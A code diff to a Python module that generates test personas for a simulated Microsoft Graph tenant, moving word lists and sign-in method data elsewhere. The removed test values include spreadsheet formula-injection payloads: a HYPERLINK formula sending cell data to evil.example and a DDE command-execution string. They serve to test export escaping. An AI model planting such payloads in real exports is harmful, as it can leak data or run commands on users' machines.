@@ -1,21 +1,21 @@
 """What the people of the simulated tenant are like: names of many scripts, and personas.
 
 A **persona** is a user with the person left out: a JSON text per Graph property in which `%(given)s`, `%(upn)s`,
-`%(created)s`... stand for what is a person's own (see `directory.facts`). A tenant of a million users shares 2,048
+`%(created)s`... stand for what is a person's own (see rendering.facts). A tenant of a million users shares 2,048
 personas, so that a user costs a few bytes until a page shows it, and a row costs one `%`. Awkward cells (formulas,
 quotes, line breaks, empty texts, nulls) are in the personas on purpose: they are what an export gets wrong.
 """
 
-# ruff: noqa: RUF001 - the letters that look like others are the point: people have such names
 import json
 import random
 from collections.abc import Sequence
 from dataclasses import dataclass
 from functools import lru_cache
 
-from local.tenant.cultures import CULTURES, SHARES, Culture
+from local.tenant.cultures import CULTURES, Culture
 from local.tenant.entitlements import entitlements
-from local.tenant.metadata import PROPERTIES, is_list
+from local.tenant.metadata import DATA, PROPERTIES, is_list
+from local.tenant.sign_in_methods import methods
 
 PERSONAS = 2048
 TENANT = "contoso.onmicrosoft.com"
@@ -23,7 +23,7 @@ TENANT = "contoso.onmicrosoft.com"
 
 @dataclass(frozen=True, slots=True)
 class Persona:
-    """Where a person comes from; `given` and `surnames` are pairs: as written, and in letters for a UPN."""
+    """A user with the person left out. `texts`: JSON of each property; `methods`: of the sign-in methods."""
 
     culture: int
     alias: str
@@ -32,62 +32,9 @@ class Persona:
     methods: str
 
 
-DEPARTMENTS = (
-    "Finance",
-    "R&D",
-    "IT",
-    "Sales",
-    "HR, Payroll & Benefits",
-    "Support",
-    "Légal",
-    "生産管理",
-    "Отдел кадров",
-    "Operations/Logistics",
-)
-TITLES = (
-    "Engineer",
-    "Manager",
-    "Head of 'Special' Projects",
-    'Lead "Cloud" Architect',
-    "Analyst",
-    "Geschäftsführer",
-    "部長",
-    "Nurse",
-    "Teacher",
-    "Consultant; freelance",
-)
-COMPANIES = (
-    "Contoso",
-    "Contoso, Ltd.",
-    'Fabrikam "North"',
-    "Adventure Works GmbH & Co. KG",
-    "ООО «Ромашка»",
-    "株式会社サンプル",
-)
-OFFICES = ("18/2111", "Room #4", "Bldg 1, floor 2", "-1 (basement)", "HQ\tEast", "3.04")
-# What a spreadsheet takes for a formula (CWE-1236), and what a careless CSV writer breaks on.
-ODD = (
-    "=1+1",
-    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-    "+31 only",
-    "-",
-    "@SUM(A1:A9)",
-    "\tindented",
-    "=cmd|' /C calc'!A0",
-    "\rreturn",
-    "-2+3+cmd",
-    'a "quoted", text',
-    "two\nlines",
-    " spaces ",
-    "100%% sure",
-    "null",
-    "#N/A",
-    "'=apostrophe",
-    "＝full width",
-    "naïve 😀 emoji",
-    "\\back\\slash",
-)
+_WORDS: dict[str, list[str]] = json.loads((DATA / "words.json").read_text())
 
+_SHARES = [culture.share for culture in CULTURES]
 _ALIASES = (
     ("{g}.{s}",) * 9
     + ("{G}.{S}",) * 5
@@ -124,7 +71,7 @@ def _maybe(
     if chance < null + empty:
         return ""
     if chance < null + empty + odd:
-        return rng.choice(ODD)
+        return rng.choice(_WORDS["odd"])
     return rng.choice(values)
 
 
@@ -132,7 +79,7 @@ def _persona(rng: random.Random, kinds: dict[str, list[dict[str, str]]], more: r
     """`kinds` has what personas of a kind are entitled to; `more` chooses among it, so that `rng` gives the same
     names whatever is added there.
     """
-    culture = rng.choices(range(len(CULTURES)), SHARES)[0]
+    culture = rng.choices(range(len(CULTURES)), _SHARES)[0]
     b2c = "local" in kinds
     kind = "local" if b2c else rng.choices(_KINDS, (40, 36, 15, 6, 3))[0]
     here = CULTURES[culture]
@@ -160,7 +107,7 @@ def _persona(rng: random.Random, kinds: dict[str, list[dict[str, str]]], more: r
         "onPremisesLastSyncDateTime": "2026-%(md)sT04:00:00Z" if synced else None,
     }
     texts = _NOTHING | more.choice(kinds[kind]) | {name: _template(value) for name, value in values.items()}
-    return Persona(culture, alias, suffix, texts, _methods(rng, here, kind))
+    return Persona(culture, alias, suffix, texts, _template(methods(rng, here, kind)))
 
 
 def _template(value: object) -> str:
@@ -231,10 +178,10 @@ def _work(rng: random.Random, here: Culture) -> dict[str, object]:
     mobile = rng.choice((None, "+31 6 %(d4)s%(d4)s", "+1 (425) 555-%(d4)s", here.phone, "06-%(d4)s%(d4)s", here.phone))
     desk = rng.choice(([], [here.phone], [here.phone], [here.phone + " ext. %(d3)s"], ["", here.phone]))
     return {
-        "jobTitle": _maybe(rng, TITLES),
-        "department": _maybe(rng, DEPARTMENTS),
-        "companyName": _maybe(rng, COMPANIES, null=0.4),
-        "officeLocation": _maybe(rng, OFFICES, null=0.4),
+        "jobTitle": _maybe(rng, _WORDS["titles"]),
+        "department": _maybe(rng, _WORDS["departments"]),
+        "companyName": _maybe(rng, _WORDS["companies"], null=0.4),
+        "officeLocation": _maybe(rng, _WORDS["offices"], null=0.4),
         "streetAddress": _maybe(rng, here.streets, null=0.3),
         "city": _maybe(rng, (here.city,), odd=0.005),
         "state": here.state if rng.random() < 0.8 else None,
@@ -285,54 +232,3 @@ def _account(rng: random.Random, kind: str, home: str, alias: str) -> dict[str, 
             )
         ),
     }
-
-
-PHONE_IDS = {
-    "mobile": "3179e48a-750b-4051-897c-87b9720928f7",
-    "alternateMobile": "b6332ec1-7057-4abe-9331-3d72feddfe41",
-    "office": "e37fc753-ff3b-4958-9484-eaa9425c82bc",
-}
-EMAIL_ID = "3ddfcfc8-9383-446f-83cc-3ab9be4be18f"
-PASSWORD_ID = "28c10230-6103-485e-b985-444c60001490"  # noqa: S105 - the fixed id of the method, no secret
-_PASSWORD = {
-    "@odata.type": "#microsoft.graph.passwordAuthenticationMethod",
-    "id": PASSWORD_ID,
-    "password": None,
-    "createdDateTime": None,
-}
-PASSWORD_ALONE = json.dumps([_PASSWORD])
-
-
-def _methods(rng: random.Random, here: Culture, kind: str) -> str:
-    """The sign-in methods of a persona, as the `value` of `/authentication/methods`."""
-    methods: list[dict[str, object]] = [dict(_PASSWORD)]
-    numbers = {"mobile": "+31 6%(d4)s%(d4)s", "alternateMobile": "+1 206555%(d4)s", "office": "+1 425555%(d4)sx%(d3)s"}
-    for phone, share in (("mobile", 0.6), ("alternateMobile", 0.15), ("office", 0.1)):
-        if rng.random() < share:
-            state = "ready" if phone == "mobile" else "notSupported"
-            own = {"id": PHONE_IDS[phone], "phoneNumber": numbers[phone], "phoneType": phone, "smsSignInState": state}
-            methods.append({"@odata.type": "#microsoft.graph.phoneAuthenticationMethod", **own})
-    if rng.random() < 0.3:
-        own = {"id": EMAIL_ID, "emailAddress": "%(sam)s@gmail.example"}
-        methods.append({"@odata.type": "#microsoft.graph.emailAuthenticationMethod", **own})
-    if kind == "cloud":
-        own = {"id": "%(id)s", "displayName": f"{here.usage} phone"}
-        methods.append({"@odata.type": "#microsoft.graph.microsoftAuthenticatorAuthenticationMethod", **own})
-    rng.shuffle(methods)
-    return _template(methods)
-
-
-# What comes back without $select.
-DEFAULTS = (
-    "businessPhones",
-    "displayName",
-    "givenName",
-    "id",
-    "jobTitle",
-    "mail",
-    "mobilePhone",
-    "officeLocation",
-    "preferredLanguage",
-    "surname",
-    "userPrincipalName",
-)
